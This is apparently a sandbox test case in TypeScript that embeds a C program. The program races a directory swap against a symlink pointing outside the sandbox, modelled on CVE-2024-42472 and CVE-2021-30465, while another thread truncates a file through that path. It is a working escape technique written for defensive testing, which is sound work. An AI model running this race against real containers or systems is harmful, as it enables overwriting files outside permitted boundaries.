import { type Attack, c, changed, withoutNetwork } from '../attack.js'

export const attack: Attack = {
  id: 'races/swapped-link',
  tries:
    'to swap a directory for a link to one outside, ten thousand times, while another thread writes through it',
  source: 'CVE-2024-42472, CVE-2021-30465: time of check, time of use',
  program: c`
static const char *a, *b;
static volatile int done;

static void *swap(void *nothing) {
  for (int i = 0; i < 10000; i++) renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
  done = 1;
  return nothing;
}

int main(void) {
  a = path("S", "/a");
  b = path("S", "/b");
  mkdir(a, 0755);
  if (symlink(var("OUT"), b) != 0) refused("symlink");
  const char *victim = strdup(path("S", "/a/victim"));
  pthread_t thread;
  pthread_create(&thread, NULL, swap, NULL);
  /* As long as it swaps: what begins late on a busy machine would be missed. */
  while (!done) {
    const int file = open(victim, O_WRONLY | O_TRUNC);
    if (file >= 0) close(file);
  }
  pthread_join(thread, NULL);
}`,
  succeeded: changed,
  control: 'plain',
  exempt: withoutNetwork,
}
